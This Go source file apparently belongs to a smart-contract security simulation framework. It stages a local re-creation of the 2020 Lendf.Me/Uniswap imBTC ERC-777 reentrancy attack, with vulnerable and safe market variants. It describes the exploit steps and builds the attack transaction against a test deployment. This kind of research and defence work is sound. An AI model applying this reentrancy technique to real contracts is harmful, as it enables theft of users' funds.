package attack

import (
	"context"
	"fmt"
	"math/big"

	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core/types"
)

// HookTokenReentrancy re-creates the ERC-777 hook reentrancy of Lendf.Me
// (Apr 2020, imBTC; the same token drained Uniswap V1 days earlier).
//
// Setup deploys HookToken777 "imBTCx" (an ERC-20 with ERC-777 tokensToSend
// hooks) and HookTokenMoneyMarket with 100 imBTCx supplied by two honest
// users; the attacker's contract holds 10 imBTCx. The exploit is one
// transaction: register the contract as its own tokensToSend hook, supply
// 5, then supply 5 again and again: each time the hook withdraws the whole
// credited balance before the market writes the stale balance + 5 back.
//
// Vulnerable: supply reads the balance before the pull and writes it after.
// Safe: supply and withdraw are nonReentrant and write after the pull; the
// hook's withdraw reverts the transaction.
//
// Units: imBTCx. ProtocolLoss is the market's imBTCx decrease.
type HookTokenReentrancy struct{}

// Info implements Scenario.
func (HookTokenReentrancy) Info() Info {
	return Info{
		Name:     "hook-token-reentrancy",
		Class:    "ERC-777 callback-token reentrancy",
		Incident: "Lendf.Me Apr 2020 / Uniswap V1 imBTC Apr 2020",
		Summary: "The attacker's ERC-777 tokensToSend hook withdraws its whole balance in the middle of supply(), " +
			"which then writes the stale balance plus the new amount back; repeated until the market is empty.",
	}
}

// Setup implements Scenario.
func (HookTokenReentrancy) Setup(ctx context.Context, env *Env, v Variant) (Staged, error) {
	const name = "hook-token-reentrancy"
	if err := prepare(name, env, v, 2); err != nil {
		return nil, err
	}
	c, d := env.Client, env.Deployer
	tok, err := deployNamed(ctx, c, d, "HookToken777", "imBTC X", "imBTCx", tokens(21_000))
	if err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	market, err := deployNamed(ctx, c, d, "HookTokenMoneyMarket", tok.Address, env.Guardian.Address, v == Safe)
	if err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	for _, u := range env.Users[:2] {
		if err := giveTokens(ctx, tok, d, tokens(50), u.Address); err != nil {
			return nil, fmt.Errorf("%s: %w", name, err)
		}
		if err := approveAndCall(ctx, tok, market, u, tokens(50), "supply", tokens(50)); err != nil {
			return nil, fmt.Errorf("%s: honest supplier: %w", name, err)
		}
	}
	atk, err := deployNamed(ctx, c, env.Attacker, "HookTokenAttacker", tok.Address, market.Address)
	if err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	if err := giveTokens(ctx, tok, d, tokens(10), atk.Address); err != nil {
		return nil, fmt.Errorf("%s: attacker's imBTCx: %w", name, err)
	}
	s := &incidentStaged{
		client:      c,
		targets:     []Target{{Name: "HookTokenMoneyMarket", Address: market.Address, Pausable: true}},
		book:        &ledger{client: c, unit: "imBTCx", assets: []pricedAsset{{symbol: "imBTCx", token: tok, price: unitOne()}}},
		attackerEOA: env.Attacker.Address,
		attackers:   []common.Address{env.Attacker.Address, atk.Address},
		victims:     []common.Address{market.Address},
	}
	s.build = func(ctx context.Context) ([]*types.Transaction, error) {
		tx, err := buildCall(ctx, c, env.Attacker, atk, nil, "attack", tokens(5), big.NewInt(40))
		if err != nil {
			return nil, fmt.Errorf("%s: %w", name, err)
		}
		return []*types.Transaction{tx}, nil
	}
	if err := s.baseline(ctx); err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	return s, nil
}
